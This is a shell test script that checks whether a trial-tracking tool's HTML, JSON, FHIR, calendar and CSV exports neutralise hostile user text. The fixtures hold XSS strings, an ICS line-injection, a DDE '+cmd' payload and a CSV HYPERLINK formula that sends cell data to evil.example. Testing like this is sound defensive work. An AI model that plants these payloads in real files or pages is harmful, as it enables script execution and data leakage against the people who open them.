#!/usr/bin/env bash
# A person's own text (notes, the product name) in every export, as an
# attacker would type it: script tags, event handlers, quotes, CRLF, formula
# prefixes and non-ASCII. Each format must escape or neutralise it, never run
# it, and never break: the HTML shows it as text, JSON and FHIR parse and keep
# it exactly, the calendar keeps its structure, the CSV starts no formula.
set -u
tw=$1 examples=$2
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
export TRIALWISE_DB="$tmp/trialwise.db"

product='Pure <img src=x onerror=alert(1)> "Powder"'
expect start 0 'Saved as trial 1' at 2026-12-07 "$tw" start --answers "$examples/runner_in_heat.json" \
  --start 2026-12-07 --product "$product" --g-per-serving 5
notes=('<script>alert(1)</script>' '" onerror="alert(2)' $'line one\r\nBEGIN:VEVENT\r\nSUMMARY:injected' \
  '=HYPERLINK("http://evil.example/?x="&A1,"click")' '+cmd|'"'"'/C calc'"'"'!A0' 'ünïcode ✓ – ok' "it's <b>bold</b> & fine")
d=7
for note in "${notes[@]}"; do
  at 2026-12-$(printf %02d $d) "$tw" log --outcome 5 --doses 0 --note "$note" >/dev/null \
    || { echo "FAIL: log note: $note"; fail=1; }
  d=$((d + 1))
done

at 2026-12-14 "$tw" export --format html --out "$tmp/report.html" || { echo "FAIL: export html"; fail=1; }
for raw in '<script>alert' '<img src=x' '<b>bold'; do
  grep -qF "$raw" "$tmp/report.html" && { echo "FAIL: the report holds raw $raw"; fail=1; }
done
grep -qF '&lt;img src=x onerror=alert(1)&gt;' "$tmp/report.html" || { echo "FAIL: the product is not shown escaped"; fail=1; }
grep -qi '<script' "$tmp/report.html" && { echo "FAIL: the report holds a script element"; fail=1; }

at 2026-12-14 "$tw" export --format fhir --out "$tmp/bundle.json" || { echo "FAIL: export fhir"; fail=1; }
at 2026-12-14 "$tw" export --format json --out "$tmp/trial.json" || { echo "FAIL: export json"; fail=1; }
python3 - "$tmp/bundle.json" "$tmp/trial.json" "${notes[@]}" <<'PY' || fail=1
import json, sys
bundle, record = sys.argv[1], sys.argv[2]
notes = sys.argv[3:]
text = json.dumps(json.load(open(bundle)), ensure_ascii=False)
rec = json.loads(open(record).read().splitlines()[0])
kept = [e["note"] for e in rec["entries"]]
for n in notes:
    if n not in kept:
        print("FAIL: the JSON record does not keep the note exactly:", repr(n)); sys.exit(1)
if "onerror=alert(1)" not in text:
    print("FAIL: the FHIR bundle lost the product name"); sys.exit(1)
PY

at 2026-12-14 "$tw" export --format ics --out "$tmp/trial.ics" || { echo "FAIL: export ics"; fail=1; }
python3 - "$tmp/trial.ics" <<'PY' || fail=1
import sys
data = open(sys.argv[1], "rb").read()
lines = data.split(b"\r\n")
if any(b"\n" in l or b"\r" in l for l in lines):
    print("FAIL: a bare CR or LF inside the calendar"); sys.exit(1)
if any(l.startswith(b"SUMMARY:injected") for l in lines):
    print("FAIL: a note injected a calendar line"); sys.exit(1)
if data.count(b"BEGIN:VCALENDAR") != 1 or data.count(b"END:VCALENDAR") != 1:
    print("FAIL: the calendar's structure broke"); sys.exit(1)
PY

at 2026-12-14 "$tw" export --format csv --out "$tmp/days.csv" || { echo "FAIL: export csv"; fail=1; }
grep -qE ',"?[=+@]' "$tmp/days.csv" && { echo "FAIL: a formula cell in the CSV"; cat "$tmp/days.csv"; fail=1; }
grep -qF ",\"'=HYPERLINK" "$tmp/days.csv" || { echo "FAIL: the formula note is not neutralised"; cat "$tmp/days.csv"; fail=1; }
grep -qF ",'+cmd" "$tmp/days.csv" || { echo "FAIL: the +cmd note is not neutralised"; cat "$tmp/days.csv"; fail=1; }
# The round trip gives back what was typed: import into a fresh trial, export again.
TRIALWISE_DB="$tmp/second.db" at 2026-12-07 "$tw" start --answers "$examples/runner_in_heat.json" --start 2026-12-07 \
  --product "$product" --g-per-serving 5 >/dev/null || { echo "FAIL: second start"; fail=1; }
TRIALWISE_DB="$tmp/second.db" at 2026-12-14 "$tw" import --csv "$tmp/days.csv" >/dev/null || { echo "FAIL: import"; fail=1; }
TRIALWISE_DB="$tmp/second.db" at 2026-12-14 "$tw" export --format csv --out "$tmp/again.csv" || fail=1
cmp -s "$tmp/days.csv" "$tmp/again.csv" || { echo "FAIL: export, import, export differs"; diff "$tmp/days.csv" "$tmp/again.csv"; fail=1; }
exit $fail
